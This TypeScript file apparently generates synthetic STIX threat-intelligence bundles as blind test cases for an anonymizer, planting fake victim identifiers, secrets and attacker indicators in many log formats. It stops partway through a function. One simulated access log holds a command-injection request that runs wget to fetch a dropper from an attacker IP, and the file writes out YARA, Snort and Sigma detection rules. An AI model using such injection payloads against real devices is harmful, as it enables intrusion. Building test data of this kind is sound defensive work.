// Third, blind evaluation suite (`--suite v3`), written without reading the detectors or the v1/v2
// material: STIX 2.1 bundles as a manufacturer's or carrier's SOC would export them. Free text is
// what analysts paste: ticket headers, syslog, web access logs, firewall and NetFlow lines, RADIUS,
// Diameter and SIP logs, AT-command transcripts, CAN/OBD dumps, OCPP and HL7 messages, email
// threads, CSV and Markdown tables, JSON and YAML configs, in fourteen languages. Victim values
// (staff, customers, subscribers, devices, internal infrastructure, the submitter's own names)
// are planted with their leak forms; threat values (attacker IPs also near the victim's range,
// person- and brand-like C2 domains, hashes, malware, CVEs, ATT&CK ids, fraud numbers, wallets,
// user agents, JA3, YARA/Snort/Sigma rules) are recorded with how their survival is checked.
import { deterministicObservableId } from '../../src/stix/index';
import type { StixBundle, StixObject, SubmitterProfile } from '../../src/anonymizer/index';
import { luhnDigit, ibanValid } from './identifiers';
import type { LeakForm } from './identifiers';
import { Rng } from './rng';
import type { GeneratedCase, PlantedIdentifier, SurvivalCheck, ThreatValue } from './truth';
import { ACTORS, ATTACK_IDS, C2_PERSONS, C2_WORDS, CVES, DEVICES, DEVICE_WORDS, LOCALES_V3, MALWARE, TLDS, UAS, type Device, type LocaleV3 } from './v3-locales';

const TLP_AMBER = 'marking-definition--f88d31f6-486f-44da-b317-01333bde0b82';
const STEM_A = ['Kast', 'Vel', 'Nor', 'Brin', 'Tal', 'Quor', 'Sil', 'Dra', 'Hel', 'Zan', 'Orv', 'Mer'];
const STEM_B = ['ora', 'mont', 'dex', 'vik', 'essa', 'uno', 'ith', 'ago', 'elle', 'arin'];
const SECTOR_WORD: Record<Device, string> = {
  'smart-meter': 'Metering', 'cellular-router': 'Networks', 'plc-scada': 'Automation', 'set-top-box': 'Media',
  'connected-car': 'Mobility', 'ev-charger': 'Charging', 'medical-gateway': 'Medical',
};
const B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
const HEXU = '0123456789ABCDEF';

interface Person {
  name: string; // as written in the report
  latin: string;
  given: string;
  surname: string;
  login: string;
  email: string;
  nsn: string;
  leak: LeakForm[];
}

const fold = (s: string) => s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toLowerCase().replace(/ł/g, 'l').replace(/ı/g, 'i').replace(/ß/g, 'ss');

class Builder {
  readonly planted: PlantedIdentifier[] = [];
  readonly threats: ThreatValue[] = [];
  readonly objects: StixObject[] = [];
  private people = new Set<number>();
  private surnames = new Set<number>();

  constructor(readonly rng: Rng, readonly loc: LocaleV3) {}

  uuid(): string {
    const r = this.rng;
    return `${r.hex(8)}-${r.hex(4)}-4${r.hex(3)}-${r.pick(['8', '9', 'a', 'b'])}${r.hex(3)}-${r.hex(12)}`;
  }

  person(domain: string, role: string): Person {
    const { loc, rng } = this;
    let gi = 0, si = 0;
    for (let k = 0; k < 50; k++) {
      gi = rng.int(0, loc.given.length - 1);
      si = rng.int(0, loc.surnames.length - 1);
      if (!this.people.has(gi) && !this.surnames.has(si)) break;
    }
    this.people.add(gi);
    this.surnames.add(si);
    const given = loc.given[gi], surname = loc.surnames[si];
    const latin = loc.nativeGiven ? `${given} ${surname}` : loc.fullName(given, surname);
    const name = loc.nativeGiven ? loc.fullName(loc.nativeGiven[gi], loc.nativeSurnames![si]) : latin;
    const g = fold(given).replace(/[^a-z]/g, ''), s = fold(surname).replace(/[^a-z]/g, '');
    const login = rng.pick([`${g[0]}${s}`, `${g}.${s}`, `${s}${g[0]}`]);
    const email = `${rng.pick([`${g}.${s}`, `${g[0]}.${s}`, `${g}${s[0]}`])}@${domain}`;
    const leak: LeakForm[] = [{ kind: name === latin ? 'word' : 'text', value: name }, { kind: 'word', value: latin }];
    if (s.length >= 6) leak.push({ kind: 'word', value: surname });
    if (loc.nativeSurnames && [...loc.nativeSurnames[si]].length >= 3) leak.push({ kind: 'text', value: loc.nativeSurnames[si] });
    this.plant(`person:${role}`, name, leak, 'person');
    return { name, latin, given, surname, login, email, nsn: loc.mobile(rng), leak };
  }

  plant(category: string, value: string, leak: LeakForm[], where: string): void {
    this.planted.push({ category, value, leak, where });
  }

  threat(category: string, value: string, check: SurvivalCheck, where: string): void {
    this.threats.push({ category, value, check, where });
  }

  sco(props: Record<string, unknown>): StixObject {
    const o = { spec_version: '2.1', ...props } as Record<string, unknown>;
    o.id = deterministicObservableId(o) ?? `${o.type as string}--${this.uuid()}`;
    const same = this.objects.find((x) => x.id === o.id);
    if (same) return same;
    this.objects.push(o as StixObject);
    return o as StixObject;
  }
}

function ts(rng: Rng, day: number): string {
  const p = (n: number, w = 2) => String(n).padStart(w, '0');
  return `2024-05-${p(day)}T${p(rng.int(0, 23))}:${p(rng.int(0, 59))}:${p(rng.int(0, 59))}.${p(rng.int(0, 999), 3)}Z`;
}

function publicIp(rng: Rng): string {
  for (;;) {
    const a = rng.int(23, 223);
    if ([100, 127, 169, 172, 192, 198, 203].includes(a)) continue;
    return `${a}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  }
}

function privateIp(rng: Rng): string {
  switch (rng.int(0, 3)) {
    case 0: return `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(2, 254)}`;
    case 1: return `172.${rng.int(16, 31)}.${rng.int(0, 255)}.${rng.int(2, 254)}`;
    case 2: return `192.168.${rng.int(0, 255)}.${rng.int(2, 254)}`;
    default: return `100.${rng.int(64, 127)}.${rng.int(0, 255)}.${rng.int(2, 254)}`;
  }
}

function luhnComplete(body: string): string {
  return body + luhnDigit(body);
}

function macOctets(rng: Rng): string[] {
  const first = (rng.int(0, 63) * 4).toString(16).padStart(2, '0'); // unicast, globally administered
  return [first, ...Array.from({ length: 5 }, () => rng.hex(2))];
}

function macText(o: string[], rng: Rng): string {
  switch (rng.int(0, 4)) {
    case 0: return o.join(':').toUpperCase();
    case 1: return o.join('-').toUpperCase();
    case 2: return `${o[0]}${o[1]}.${o[2]}${o[3]}.${o[4]}${o[5]}`;
    case 3: return o.join('').toUpperCase();
    default: return o.join(':');
  }
}

function vin(rng: Rng): string {
  const A = 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789';
  const wmi = rng.pick(['WVW', 'WBA', 'VF1', 'ZFA', 'JTD', 'KMH', 'LSV', 'YV1', 'TMB', 'SAL', 'VSS', 'NMT']);
  return `${wmi}${rng.chars(6, A)}${rng.chars(2, A)}${rng.chars(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${rng.digits(4)}`;
}

function iban(rng: Rng, country: string): string {
  const lengths: Record<string, number> = { GB: 18, DE: 18, FR: 23, ES: 20, IT: 23, PT: 21, NL: 14, PL: 24, SE: 20, TR: 22, SA: 20 };
  const n = lengths[country];
  if (!n) return '';
  const bban = country === 'GB' ? `${rng.chars(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${rng.digits(14)}` : country === 'NL' ? `${rng.chars(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${rng.digits(10)}` : rng.digits(n);
  for (let cd = 2; cd < 99; cd++) {
    const s = `${country}${String(cd).padStart(2, '0')}${bban}`;
    if (ibanValid(s)) return s;
  }
  return '';
}

function groups4(s: string): string {
  return s.match(/.{1,4}/g)!.join(' ');
}

function esc(v: string): string {
  return v.replace(/\\/g, '\\\\').replace(/'/g, "\\'");
}

/** One v3 case; `index` rotates through the fourteen languages, then the seven device kinds. */
export function generateCaseV3(seed: number, index: number): GeneratedCase {
  const rng = new Rng((seed * 2654435761 + index * 40503 + 0x3c3) >>> 0);
  const loc = LOCALES_V3[index % LOCALES_V3.length];
  const device = DEVICES[Math.floor(index / LOCALES_V3.length) % DEVICES.length];
  const dw = DEVICE_WORDS[device];
  const b = new Builder(rng, loc);

  // The submitter: a made-up manufacturer or carrier, its domain, brand and product.
  const stem = `${rng.pick(STEM_A)}${rng.pick(STEM_B)}${rng.chars(2, 'bdgklmnrstvz')}`;
  const Stem = stem[0].toUpperCase() + stem.slice(1);
  const sectorWord = SECTOR_WORD[device];
  const legal = loc.lang === 'ja' || loc.lang === 'ko' ? `${loc.legal} ${Stem} ${sectorWord}` : loc.lang === 'ar' ? `${loc.legal} ${Stem} ${sectorWord}` : `${Stem} ${sectorWord} ${loc.legal}`;
  const domain = `${stem}-${sectorWord.toLowerCase()}.${loc.tld}`;
  const brand = `${Stem}${rng.pick(['Sense', 'Link', 'Connect', 'One'])}`;
  const product = `${rng.pick(dw.product)} ${rng.chars(1, 'XSTRM')}${rng.int(2, 9)}${rng.int(0, 9)}`;
  const victim24 = publicIp(rng).split('.').slice(0, 3).join('.');
  const corp = `corp.${domain}`;
  const identityForms: LeakForm[] = [{ kind: 'word', value: Stem }, { kind: 'text', value: domain }, { kind: 'word', value: brand }];

  const staff = [b.person(domain, 'staff'), b.person(domain, 'staff'), b.person(domain, 'staff')];
  const customers = [b.person(rng.pick(loc.freemail), 'customer'), b.person(rng.pick(loc.freemail), 'customer')];
  const customerOrg = loc.customerOrg(rng);
  b.plant('customer-org', customerOrg, [{ kind: 'text', value: customerOrg }], 'identity/sighting');
  for (const s of staff) b.plant('email:staff', s.email, [{ kind: 'text', value: s.email }], 'text');
  for (const c of customers) b.plant('email:customer', c.email, [{ kind: 'text', value: c.email }], 'text');

  const profile: SubmitterProfile = {
    names: [legal, Stem], domains: [domain], brands: [brand], products: [product.split(' ')[0]],
    netblocks: [`${victim24}.0/24`], country: loc.country, languages: [loc.lang], sectors: [dw.sector],
    memberRegistry: { [dw.sector]: { [loc.country]: 12 } },
    ...(index % 2 === 0 ? { staff: staff.map((s) => s.name) } : {}),
  };

  // Threat side.
  const c2ip = publicIp(rng);
  const [va, vb] = victim24.split('.');
  const nearIp = `${va}.${vb}.${(Number(victim24.split('.')[2]) + rng.int(1, 40)) % 256}.${rng.int(2, 250)}`; // attacker in the victim's /16
  const scanIp = publicIp(rng);
  const tld = () => rng.pick(TLDS);
  const c2dom = `${rng.pick(C2_WORDS)}-${rng.chars(5, 'abcdefghkmnprstuvwxz')}.${tld()}`;
  const personDom = `${rng.pick(C2_PERSONS)}${rng.pick(['-photo', '-studio', '', '-blog'])}.${tld()}`;
  const brandDom = `${stem}-${rng.pick(['support', 'firmware', 'login', 'update'])}.${rng.pick(['com', 'net', 'info'])}`;
  const malware = rng.pick(MALWARE);
  const actor = rng.pick(ACTORS);
  const cve = rng.pick(CVES);
  const attackIds = rng.shuffle([...ATTACK_IDS]).slice(0, 3);
  const md5 = rng.hex(32), sha1 = rng.hex(40), sha256 = rng.hex(64), ja3 = rng.hex(32);
  const arch = rng.pick(['arm7', 'mips', 'mpsl', 'x86', 'aarch64']);
  const dropUrl = `http://${c2ip}:${rng.pick([80, 8080, 8000, 443])}/bins/${malware.toLowerCase().slice(0, 4)}.${arch}`;
  const gateUrl = `https://${personDom}/${rng.pick(['gate.php', 'api/v2/beacon', 'panel/upload.php', 'wp-content/x.php'])}`;
  const ua = rng.pick(UAS);
  const wallet = rng.chance(0.5) ? `bc1q${rng.chars(38, BECH)}` : `1${rng.chars(33, B58)}`;
  const fraudCc = rng.pick(['882', '881', '252', '675', '370', '222', '960']);
  const fraudE164 = `${fraudCc}${rng.digits(fraudCc.length === 3 && fraudCc.startsWith('88') ? 9 : 7)}`;
  const phishFrom = `${rng.pick(['noreply', 'billing', 'it-helpdesk', 'security'])}@${brandDom}`;
  const yaraName = `M2M_${malware}_${arch}_${rng.chars(4, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}`;
  const yaraStr = `/tmp/.${rng.chars(6, 'abcdefghijklmnopqrstuvwxyz')}`;
  const snortContent = `/${rng.pick(['cgi-bin', 'goform', 'boaform'])}/${rng.chars(8, 'abcdefghijklmnopqrstuvwxyz')}`;
  const sigmaValue = `${rng.chars(7, 'abcdefghijklmnopqrstuvwxyz')}.sh`;

  b.threat('ip:c2', c2ip, { kind: 'pattern', value: c2ip }, 'indicator');
  b.threat('ip:near-victim-range', nearIp, { kind: 'pattern', value: nearIp }, 'indicator');
  b.threat('ip:scanner-text', scanIp, { kind: 'text', value: scanIp }, 'logs and prose');
  b.threat('domain:c2', c2dom, { kind: 'pattern', value: c2dom }, 'indicator');
  b.threat('domain:person-like', personDom, { kind: 'pattern', value: personDom }, 'indicator');
  b.threat('domain:brand-typosquat', brandDom, { kind: 'pattern', value: brandDom }, 'indicator');
  b.threat('url:dropper', dropUrl, { kind: 'sco', type: 'url', property: 'value', value: dropUrl }, 'observed url');
  b.threat('url:gate', gateUrl, { kind: 'pattern', value: gateUrl }, 'indicator');
  b.threat('hash:sha256', sha256, { kind: 'hash', value: sha256 }, 'file');
  b.threat('hash:md5', md5, { kind: 'pattern', value: md5 }, 'indicator');
  b.threat('hash:sha1-text', sha1, { kind: 'text', value: sha1 }, 'description');
  b.threat('malware', malware, { kind: 'name', type: 'malware', value: malware }, 'malware');
  b.threat('actor', actor, { kind: 'name', type: 'intrusion-set', value: actor }, 'intrusion-set');
  b.threat('cve', cve, { kind: 'text', value: cve }, 'text');
  for (const t of attackIds) b.threat('attack-id', t, { kind: 'text', value: t }, 'text');
  b.threat('ja3', ja3, { kind: 'text', value: ja3 }, 'text');
  b.threat('user-agent', ua, { kind: 'text', value: ua }, 'logs');
  b.threat('wallet', wallet, { kind: 'text', value: wallet }, 'ransom note');
  b.threat('fraud-number', fraudE164, { kind: 'digits', value: fraudE164 }, 'SIP/IRSF text');
  b.threat('email:phish-sender', phishFrom, { kind: 'pattern', value: phishFrom }, 'indicator');
  b.threat('rule:yara', yaraName, { kind: 'text', value: `rule ${yaraName}` }, 'yara indicator');
  b.threat('rule:yara-string', yaraStr, { kind: 'text', value: yaraStr }, 'yara indicator');
  b.threat('rule:snort', snortContent, { kind: 'text', value: `content:"${snortContent}"` }, 'snort indicator');
  b.threat('rule:sigma', sigmaValue, { kind: 'text', value: sigmaValue }, 'sigma indicator');

  // Victim side: internal infrastructure, devices, subscribers, places.
  const s0 = staff[0], s1 = staff[1], s2 = staff[2];
  const c0 = customers[0], c1 = customers[1];
  const hostSiem = `${rng.pick(['siem', 'elk', 'splunk-idx'])}${rng.int(1, 9)}.${corp}`;
  const hostNas = `${rng.pick(['radius', 'aaa', 'pgw', 'hss'])}-${rng.pick(['fra', 'mad', 'ams', 'cgn', 'waw'])}${rng.int(1, 4)}.core.${domain}`;
  const hostLaptop = `${rng.pick(['LAPTOP', 'NB', 'WS'])}-${fold(s1.surname).replace(/[^a-z]/g, '').toUpperCase().slice(0, 8)}${rng.int(1, 99)}`;
  const hostScada = `${rng.pick(['hist', 'hmi', 'eng', 'opc'])}-${rng.pick(['north', 'plant2', 'sub7', 'ws'])}${rng.int(1, 9)}.ot.local`;
  for (const h of [hostSiem, hostNas, hostScada]) b.plant('hostname', h, [{ kind: 'text', value: h }], 'text');
  b.plant('hostname:person', hostLaptop, [{ kind: 'text', value: hostLaptop }], 'syslog');
  const privA = privateIp(rng), privB = privateIp(rng), privC = privateIp(rng);
  for (const p of [privA, privB, privC]) b.plant('ip:private', p, [{ kind: 'ip', value: p }], 'logs');
  const victimPub = `${victim24}.${rng.int(2, 250)}`;
  b.plant('ip:victim-public', victimPub, [{ kind: 'ip', value: victimPub }], 'logs');
  const ticket = `${rng.pick(['INC', 'SIR', 'SEC'])}${rng.digits(7)}`;
  const jiraKey = `${rng.pick(['OPS', 'SOC', 'FIELD', 'NOC'])}-${rng.int(1000, 29999)}`;
  b.plant('ticket', ticket, [{ kind: 'alnum', value: ticket.toLowerCase() }], 'ticket header');
  const jiraUrl = `https://jira.${corp}/browse/${jiraKey}`;
  const wikiUrl = `https://confluence.${corp}/display/SOC/${rng.pick(['Runbook', 'Playbook', 'Postmortem'])}+${jiraKey}`;
  b.plant('url:internal', jiraUrl, [{ kind: 'text', value: jiraUrl.replace(/^https:\/\//, '') }], 'text');
  b.plant('url:internal', wikiUrl, [{ kind: 'text', value: `confluence.${corp}` }], 'email');
  const serial = () => `${rng.pick(['SN', dw.product[0].slice(0, 3).toUpperCase(), 'A'])}${rng.digits(2)}${rng.chars(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${rng.digits(6)}`;
  const serials = [serial(), serial(), serial()];
  for (const s of serials) b.plant('device:serial', s, [{ kind: 'alnum', value: s.toLowerCase() }], 'text');
  const macs = [macOctets(rng), macOctets(rng), macOctets(rng)];
  const macTexts = macs.map((m) => macText(m, rng));
  macs.forEach((m, i) => b.plant('device:mac', macTexts[i], [{ kind: 'alnum', value: m.join('') }], 'text'));
  const imeis = [luhnComplete(`35${rng.digits(6)}${rng.digits(6)}`), luhnComplete(`86${rng.digits(6)}${rng.digits(6)}`)];
  for (const i of imeis) b.plant('subscriber:imei', i, [{ kind: 'digits', value: i.slice(8) }], 'text');
  const imsis = [`${loc.mcc}${rng.pick(['01', '02', '03', '07', '10'])}${rng.digits(10)}`, `${loc.mcc}${rng.pick(['01', '02', '03'])}${rng.digits(10)}`];
  for (const i of imsis) b.plant('subscriber:imsi', i, [{ kind: 'digits', value: i.slice(5) }], 'text');
  const iccid = luhnComplete(`89${loc.cc.padEnd(3, '0').slice(0, 2)}${rng.digits(2)}${rng.digits(12)}`);
  b.plant('subscriber:iccid', iccid, [{ kind: 'digits', value: iccid.slice(6) }], 'text');
  const msisdns = [loc.mobile(rng), loc.mobile(rng)];
  for (const m of msisdns) b.plant('subscriber:msisdn', `${loc.cc}${m}`, [{ kind: 'digits', value: m }], 'logs');
  for (const p of [...staff, ...customers]) b.plant('phone', `+${loc.cc} ${p.nsn}`, [{ kind: 'digits', value: p.nsn }], 'text');
  const addr0 = loc.street(rng), addr1 = loc.street(rng);
  b.plant('address', addr0.text, [{ kind: 'text', value: addr0.key }], 'text');
  b.plant('address', addr1.text, [{ kind: 'text', value: addr1.key }], 'csv');
  const lat = (rng.int(-35, 60) + rng.next()).toFixed(5), lon = (rng.int(-10, 140) + rng.next()).toFixed(5);
  b.plant('gps', `${lat},${lon}`, [{ kind: 'text', value: lat }], 'text');
  const lat2 = (Number(lat) + rng.next() / 10).toFixed(6), lon2 = (Number(lon) + rng.next() / 10).toFixed(6);
  b.plant('gps', `${lat2},${lon2}`, [{ kind: 'text', value: lat2 }], 'log/csv');
  const account = `${rng.digits(3)}${rng.pick(['-', '', ' '])}${rng.digits(4)}${rng.pick(['-', ''])}${rng.digits(3)}`;
  b.plant('customer:account', account, [{ kind: 'digits', value: account.replace(/\D/g, '') }], 'text');
  const ibanV = iban(rng, loc.country);
  if (ibanV) b.plant('customer:iban', ibanV, [{ kind: 'alnum', value: ibanV.toLowerCase() }], 'email');
  const secretPw = `${rng.pick(['Summer', 'Winter', 'Meter', 'Admin'])}${rng.int(2019, 2024)}!${rng.chars(3, 'abcdefghkmnpqrstuvwxyz')}`;
  const apiKey = `${rng.pick(['sk_live_', 'AKIA', 'ghp_', ''])}${rng.chars(24, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`;
  b.plant('secret:password', secretPw, [{ kind: 'text', value: secretPw }], 'config');
  b.plant('secret:api-key', apiKey, [{ kind: 'text', value: apiKey }], 'config');
  b.plant('account:login', s1.login, [{ kind: 'word', value: s1.login }], 'syslog');

  const day = rng.int(3, 27);
  const created = ts(rng, day);
  const by = `identity--${b.uuid()}`;
  const sdo = (type: string, props: Record<string, unknown>): StixObject => {
    const o = { type, spec_version: '2.1', id: `${type}--${b.uuid()}`, created, modified: created, created_by_ref: by, ...props } as StixObject;
    b.objects.push(o);
    return o;
  };
  const fmtPhone = (nsn: string) => rng.pick([`+${loc.cc} ${loc.mobileNational(nsn).replace(/^0/, '')}`, loc.mobileNational(nsn), `+${loc.cc}${nsn}`, `00${loc.cc} ${nsn}`]);

  // Submitter identity and its customer.
  b.objects.push({
    type: 'identity', spec_version: '2.1', id: by, created, modified: created, name: legal, identity_class: 'organization', sectors: [dw.sector],
    contact_information: `PSIRT ${Stem}: psirt@${domain}, ${fmtPhone(s0.nsn)} (${s0.name})`,
  } as StixObject);
  const custIdentity = sdo('identity', { name: customerOrg, identity_class: 'organization', sectors: [dw.sector], description: `${customerOrg} — ${addr0.text}` });

  // Threat SDOs.
  const mal = sdo('malware', { name: malware, is_family: true, malware_types: ['bot', 'backdoor'], description: `${malware} variant (${arch}); SHA-1 ${sha1}; dropper fetched from ${dropUrl}.` });
  const iset = sdo('intrusion-set', { name: actor, description: `Cluster tracked as ${actor}; exploitation of ${cve} against ${dw.noun} fleets.` });
  const vuln = sdo('vulnerability', { name: cve, external_references: [{ source_name: 'cve', external_id: cve }] });
  const aps = attackIds.map((t) => sdo('attack-pattern', { name: `Technique ${t}`, external_references: [{ source_name: 'mitre-attack', external_id: t, url: `https://attack.mitre.org/techniques/${t.replace('.', '/')}/` }] }));

  const ind = (name: string, pattern: string, patternType = 'stix', description?: string) =>
    sdo('indicator', { name, pattern, pattern_type: patternType, valid_from: created, indicator_types: ['malicious-activity'], ...(description ? { description } : {}) });
  const indIp = ind(`${malware} C2 and scanner addresses`, `[ipv4-addr:value = '${c2ip}'] OR [ipv4-addr:value = '${nearIp}']`, 'stix', `C2 ${c2ip}; second stage from ${nearIp} (same /16 as our edge, not ours).`);
  const indDom = ind(`${malware} domains`, `[domain-name:value = '${c2dom}'] OR [domain-name:value = '${personDom}'] OR [domain-name:value = '${brandDom}']`);
  ind('Gate URL', `[url:value = '${esc(gateUrl)}']`);
  ind(`${malware} sample`, `[file:hashes.MD5 = '${md5}'] OR [file:hashes.'SHA-256' = '${sha256}']`);
  ind('Phishing sender', `[email-message:from_ref.value = '${phishFrom}']`, 'stix', `Lure sent to ${s2.name} <${s2.email}> from ${phishFrom}.`);
  ind(`YARA ${malware}`, `rule ${yaraName}\n{\n  meta:\n    author = "PSIRT"\n    description = "${malware} loader on ${dw.noun}"\n  strings:\n    $s1 = "${yaraStr}"\n    $s2 = { 7F 45 4C 46 01 01 01 ${rng.hex(2).toUpperCase()} }\n    $s3 = "${c2dom}"\n  condition:\n    uint32(0) == 0x464c457f and 2 of them\n}`, 'yara');
  ind('Snort exploit', `alert tcp $EXTERNAL_NET any -> $HOME_NET ${dw.port} (msg:"${cve} exploit attempt"; flow:to_server,established; content:"${snortContent}"; http_uri; classtype:attempted-admin; sid:${rng.int(9000000, 9999999)}; rev:1;)`, 'snort');
  ind('Sigma dropper', `title: ${malware} dropper via wget\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: '/wget'\n    CommandLine|contains: '${sigmaValue}'\n  condition: selection\nlevel: high`, 'sigma');

  // Observed data: attacker and victim observables together.
  const c2ipO = b.sco({ type: 'ipv4-addr', value: c2ip });
  const victimO = b.sco({ type: 'ipv4-addr', value: victimPub });
  const privO = b.sco({ type: 'ipv4-addr', value: privA });
  const macO = b.sco({ type: 'mac-addr', value: macs[0].join(':') });
  const urlO = b.sco({ type: 'url', value: dropUrl });
  const fileO = b.sco({ type: 'file', name: `${malware.toLowerCase().slice(0, 4)}.${arch}`, hashes: { 'SHA-256': sha256, MD5: md5 } });
  const domO = b.sco({ type: 'domain-name', value: c2dom });
  const nt = b.sco({ type: 'network-traffic', src_ref: c2ipO.id, dst_ref: victimO.id, dst_port: dw.port, protocols: ['ipv4', 'tcp'] });
  const first = ts(rng, day - 2);
  sdo('observed-data', { first_observed: first, last_observed: first, number_observed: rng.int(3, 400), object_refs: [c2ipO.id, victimO.id, privO.id, macO.id, urlO.id, fileO.id, domO.id, nt.id] });

  // Free-text blocks.
  const t = (d: number) => `2024-05-${String(d).padStart(2, '0')}T${String(rng.int(0, 23)).padStart(2, '0')}:${String(rng.int(0, 59)).padStart(2, '0')}:${String(rng.int(0, 59)).padStart(2, '0')}`;
  const mon = 'May';
  const sysTs = () => `${mon} ${String(day).padStart(2, ' ')} ${String(rng.int(0, 23)).padStart(2, '0')}:${String(rng.int(0, 59)).padStart(2, '0')}:${String(rng.int(0, 59)).padStart(2, '0')}`;
  const header = `Ticket: ${ticket} | Opened by: ${s0.name} | Queue: SOC-L2 | Asset: ${hostNas} | Jira: ${jiraUrl}`;
  const syslog = [
    `${sysTs()} ${hostNas} sshd[${rng.int(300, 9999)}]: Accepted password for ${s1.login} from ${privB} port ${rng.int(40000, 65000)} ssh2`,
    `${sysTs()} ${hostNas} sshd[${rng.int(300, 9999)}]: Failed password for root from ${scanIp} port ${rng.int(40000, 65000)} ssh2`,
    `${sysTs()} ${hostLaptop} kernel: [UFW BLOCK] IN=eth0 OUT= MAC=${macTexts[1]} SRC=${scanIp} DST=${victimPub} PROTO=TCP SPT=${rng.int(1024, 65000)} DPT=${dw.port}`,
    `${sysTs()} ${hostSiem} dhcpd: DHCPACK on ${privC} to ${macTexts[2]} (${serials[1]}) via eth1`,
  ].join('\n');
  const access = [
    `${scanIp} - - [${String(day).padStart(2, '0')}/${mon}/2024:0${rng.int(0, 9)}:${rng.int(10, 59)}:${rng.int(10, 59)} +0000] "POST ${snortContent}?cmd=wget%20${encodeURIComponent(dropUrl)} HTTP/1.1" 200 ${rng.int(100, 900)} "-" "${ua}"`,
    `${privB} - ${s1.login} [${String(day).padStart(2, '0')}/${mon}/2024:1${rng.int(0, 9)}:${rng.int(10, 59)}:${rng.int(10, 59)} +0000] "GET /admin/devices?serial=${serials[0]}&imei=${imeis[0]} HTTP/1.1" 200 ${rng.int(1000, 9000)} "https://portal.${corp}/" "Mozilla/5.0"`,
  ].join('\n');
  const netflow = `# netflow v9 export, collector ${hostSiem}\nts,src,dst,sport,dport,proto,bytes,ja3\n${t(day)},${victimPub},${c2ip},${rng.int(30000, 60000)},443,6,${rng.int(1000, 90000)},${ja3}\n${t(day)},${privA},${nearIp},${rng.int(30000, 60000)},${dw.port},6,${rng.int(100, 9000)},-`;
  const radius = `${t(day)} ${hostNas} radiusd: Access-Accept for User-Name="${loc.cc}${msisdns[0]}@m2m.${domain}" Calling-Station-Id="${loc.cc}${msisdns[0]}" 3GPP-IMSI="${imsis[0]}" 3GPP-IMEISV="${imeis[0].slice(0, 14)}01" Framed-IP-Address=${privA} NAS-IP-Address=${privB}`;
  const diameter = `Diameter CCR-I Session-Id=pgw1.epc.mnc${imsis[1].slice(3, 5).padStart(3, '0')}.mcc${loc.mcc}.3gppnetwork.org;${rng.int(100000, 999999)} Subscription-Id-Data=${loc.cc}${msisdns[1]} User-Equipment-Info-Value=${imeis[1]} Called-Station-Id=iot.${stem}.${loc.tld}`;
  const sip = `INVITE sip:+${fraudE164}@ims.mnc001.mcc${loc.mcc}.3gppnetwork.org SIP/2.0\nFrom: <sip:+${loc.cc}${msisdns[1]}@ims.mnc001.mcc${loc.mcc}.3gppnetwork.org>;tag=${rng.hex(8)}\nP-Asserted-Identity: <tel:+${loc.cc}${msisdns[1]}>\nUser-Agent: ${brand}-VoLTE/2.3\n(IRSF: ${rng.int(40, 900)} calls to premium destination +${fraudE164} in 3 h; fraud number, keep blocked)`;
  const at = `AT+CGSN\r\n${imeis[1]}\r\nOK\r\nAT+CIMI\r\n${imsis[1]}\r\nOK\r\nAT+QCCID\r\n+QCCID: ${iccid}\r\nOK\r\nAT+CGDCONT?\r\n+CGDCONT: 1,"IP","m2m.${stem}.${loc.tld}","${privC}"\r\nOK`;
  const vinV = vin(rng);
  const plate = loc.plate(rng);
  const can = device === 'connected-car'
    ? `can0  7DF   [8]  02 09 02 00 00 00 00 00\ncan0  7E8   [8]  10 14 49 02 01 ${[...vinV.slice(0, 3)].map((c) => c.charCodeAt(0).toString(16).toUpperCase()).join(' ')}\nOBD Mode 09 PID 02 -> VIN ${vinV}; Kennzeichen/plate ${plate}; last fix ${lat2}, ${lon2}`
    : '';
  if (device === 'connected-car') {
    b.plant('vehicle:vin', vinV, [{ kind: 'alnum', value: vinV.slice(9).toLowerCase() }], 'CAN log');
    b.plant('vehicle:plate', plate, [{ kind: 'text', value: plate }], 'CAN log');
  }
  const rfid = rng.hex(14).toUpperCase();
  const ocpp = device === 'ev-charger'
    ? `[2,"${rng.digits(8)}","BootNotification",{"chargePointVendor":"${Stem}","chargePointModel":"${product}","chargePointSerialNumber":"${serials[2]}","chargeBoxSerialNumber":"${serials[0]}","iccid":"${iccid}","imsi":"${imsis[0]}","firmwareVersion":"4.2.${rng.int(0, 9)}"}]\n[2,"${rng.digits(8)}","Authorize",{"idTag":"${rfid}"}]`
    : '';
  if (device === 'ev-charger') b.plant('customer:rfid', rfid, [{ kind: 'alnum', value: rfid.toLowerCase() }], 'OCPP');
  const mrn = `MRN${rng.digits(8)}`;
  const dob = `19${rng.int(40, 99)}${String(rng.int(1, 12)).padStart(2, '0')}${String(rng.int(10, 28)).padStart(2, '0')}`;
  const hl7 = device === 'medical-gateway'
    ? `MSH|^~\\&|${brand}|${customerOrg.replace(/\|/g, '')}|LIS|LAB|${dob}0930||ORU^R01|${rng.digits(6)}|P|2.5\nPID|1||${mrn}^^^HOSP^MR||${c1.surname.toUpperCase()}^${c1.given}||${dob}|F|||${addr1.key}^^^^||${fmtPhone(c1.nsn)}`
    : '';
  if (device === 'medical-gateway') {
    b.plant('patient:mrn', mrn, [{ kind: 'alnum', value: mrn.toLowerCase() }], 'HL7');
    b.plant('patient:dob', dob, [{ kind: 'digits', value: dob }], 'HL7');
  }
  const modbus = device === 'plc-scada'
    ? `${t(day)} ${hostScada} historian: Modbus write FC=16 unit=1 reg=40001..40012 from ${nearIp} (not an engineering station!) to PLC ${serials[1]} at ${privA}:502; engineer on call ${s2.name} ${fmtPhone(s2.nsn)}`
    : '';
